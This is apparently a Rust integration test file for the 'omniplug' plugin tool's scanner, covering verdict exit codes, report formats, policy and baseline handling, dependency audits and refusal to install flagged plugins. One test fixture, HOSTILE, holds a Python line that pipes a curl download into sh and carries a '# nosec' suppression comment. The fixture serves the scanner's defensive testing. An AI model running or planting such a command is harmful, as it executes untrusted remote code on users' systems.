//! Scanning from the command line, and what an installation makes of it.

#![allow(clippy::unwrap_used, reason = "a test's helper ends where its means fail")]

use omniplug_tests::command::Omniplug;
use omniplug_tests::plugins::{scaler, with_code};
use rustix::process::{Pid, Signal, kill_process};
use serde_json::{Value, json};
use std::time::{Duration, Instant};

const HOSTILE: &str = "import os\n\n\ndef execute(data):\n    \
    os.system('curl -s https://example.org/x | sh')  # nosec\n";

const CAUTIOUS: &str = "import urllib.request\n\n\ndef execute(data):\n    \
    return urllib.request.urlopen('https://example.org/rates.csv').read()\n";

#[test]
fn each_verdict_has_its_exit_code() {
    let omniplug = Omniplug::new();
    scaler(&omniplug, "fine");
    with_code(&omniplug, "hostile", HOSTILE);
    with_code(&omniplug, "cautious", CAUTIOUS);
    with_code(&omniplug, "broken", "def execute(:\n");
    for (plugin, code, verdict) in [
        ("fine", 0, "pass"),
        ("cautious", 10, "warn"),
        ("hostile", 11, "block"),
        ("broken", 12, "could not scan"),
    ] {
        let ended = omniplug.run(["scan", plugin]).expect_code(code);
        assert!(ended.stdout.ends_with(&format!("verdict: {verdict}\n")), "{}", ended.stdout);
    }
    omniplug.run(["scan", "missing"]).expect_code(3);
    omniplug.run(["scan", "fine", "--format", "pdf"]).expect_code(2);
    assert!(!omniplug.home().exists(), "a scan needs no home");
}

#[test]
fn an_interrupt_ends_a_scan() {
    let omniplug = Omniplug::new();
    let slow = format!("a = 'A' * 1048576\n{}", "y = a[0] + a[1] + a[2]\n".repeat(3_000));
    omniplug.write("slow.py", &slow);
    let start = Instant::now();
    let mut scan = omniplug.command(["scan", "slow.py"]).spawn().unwrap();
    std::thread::sleep(Duration::from_secs(1));
    kill_process(Pid::from_child(&scan), Signal::INT).unwrap();
    assert_eq!(scan.wait().unwrap().code(), Some(130));
    assert!(start.elapsed() < Duration::from_secs(10), "{:?}", start.elapsed());
}

#[test]
fn a_report_has_three_forms() {
    let omniplug = Omniplug::new();
    with_code(&omniplug, "hostile", HOSTILE);
    let text = omniplug.run(["scan", "hostile"]).expect_code(11).stdout;
    assert!(text.contains("main.py:5:"), "{text}");
    assert!(text.contains("     5 | os.system("), "{text}");
    assert!(text.contains("its author asks to look away"), "{text}");
    let json = omniplug.run(["scan", "hostile", "--format", "json"]).expect_code(11).json();
    assert_eq!(json["verdict"], "block");
    assert!(json["totals"]["suppressed"].as_u64().unwrap() > 0, "{json}");
    let sarif = omniplug.run(["scan", "hostile", "--format", "sarif"]).expect_code(11).json();
    assert_eq!(sarif["version"], "2.1.0");
    let results = sarif["runs"][0]["results"].as_array().unwrap().len();
    assert_eq!(results, json["findings"].as_array().unwrap().len());
}

#[test]
fn the_host_decides_with_policy_and_baseline() {
    let omniplug = Omniplug::new();
    with_code(&omniplug, "hostile", HOSTILE);
    let scan = |more: &[&str], code| {
        omniplug.run(["scan", "hostile", "--format", "json"].iter().chain(more)).expect_code(code)
    };
    let report = scan(&[], 11);
    omniplug.write("before.json", &report.stdout);
    scan(&["--baseline", "before.json"], 0);
    scan(&["--block", "never"], 10);
    scan(&["--block", "never", "--warn", "never"], 0);
    let allow = json!({"allow": [{"path": "main.py", "reason": "a test of ours"}]});
    omniplug.write("policy.json", &allow.to_string());
    let allowed = scan(&["--policy", "policy.json"], 0).json();
    assert_eq!(allowed["findings"][0]["allowed"], "a test of ours");
    omniplug.write("wrong.json", "[]x");
    scan(&["--policy", "wrong.json"], 4);
}

#[test]
fn rules_are_listed_and_shown() {
    let omniplug = Omniplug::new();
    let list = omniplug.run(["rules", "--json"]).ok().json();
    let rules = list.as_array().unwrap();
    for language in ["python", "r", "package", "dependency"] {
        assert!(rules.iter().any(|rule| rule["language"] == language), "{language}");
    }
    let table = omniplug.run(["rules"]).ok().stdout;
    assert_eq!(table.lines().count(), rules.len() + 1);
    let shown = omniplug.run(["rules", "show", "pkg011"]).ok().stdout;
    assert!(shown.starts_with("PKG011 pth-runs-code\n"), "{shown}");
    let by_bandit = omniplug.run(["rules", "show", "B602", "--json"]).ok().json();
    assert!(by_bandit["aliases"].as_array().unwrap().contains(&Value::from("B602")));
    omniplug.run(["rules", "show", "XY999"]).expect_code(3);
}

#[test]
fn an_audit_compares_with_a_database_and_never_passes_without() {
    let omniplug = Omniplug::new();
    omniplug.write("requirements.txt", "some-package==1.4\n");
    let audit = |more: &[&str], code| {
        let arguments = ["audit", "requirements.txt", "--format", "json"];
        omniplug.run(arguments.iter().chain(more)).expect_code(code).json()
    };
    assert_eq!(audit(&[], 12)["verdict"], "could_not_scan");
    assert_eq!(audit(&["--db", "missing"], 12)["verdict"], "could_not_scan");
    let advisory = json!({
        "id": "PYSEC-1", "modified": "2026-01-01T00:00:00Z", "aliases": ["CVE-1"],
        "database_specific": {"severity": "CRITICAL"},
        "affected": [{"package": {"ecosystem": "PyPI", "name": "some_package"},
            "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "1.5"}]}]}],
    });
    omniplug.write("db/PYSEC-1.json", &advisory.to_string());
    let young = ["--db", "db", "--max-age", "100000"];
    let found = audit(&young, 11);
    assert_eq!(found["findings"][0]["references"], json!(["PYSEC-1", "CVE-1"]));
    assert!(found["dependencies"]["advisories"]["age_days"].is_u64(), "{found}");
    omniplug.write("requirements.txt", "some-package==1.5\n");
    audit(&young, 0);
    audit(&["--db", "db", "--max-age", "0"], 12);
}

#[test]
fn an_installation_is_refused_on_doubt_and_what_was_decided_is_kept() {
    let omniplug = Omniplug::new();
    with_code(&omniplug, "hostile", HOSTILE);
    with_code(&omniplug, "broken", "def execute(:\n");
    with_code(&omniplug, "cautious", CAUTIOUS);
    for (command, plugin) in [("install", "./hostile"), ("run", "./hostile"), ("install", "broken")]
    {
        let refused = omniplug.run([command, plugin]).expect_code(4);
        assert!(refused.stderr.contains("hint: "), "{}", refused.stderr);
        assert!(refused.stderr.contains("main.py"), "{}", refused.stderr);
    }
    assert_eq!(omniplug.run(["list", "--json"]).ok().json(), json!([]));
    let warned = omniplug.run(["install", "cautious"]).ok();
    assert!(warned.stderr.contains("warning: the scan found: "), "{}", warned.stderr);
    let warned = omniplug.run(["install", "hostile", "--scan", "warn"]).ok();
    assert!(warned.stderr.contains("warning: the scan found: "), "{}", warned.stderr);
    let off = omniplug.run(["install", "broken", "--scan", "off"]).ok();
    assert!(off.stderr.contains("was not scanned"), "{}", off.stderr);
}
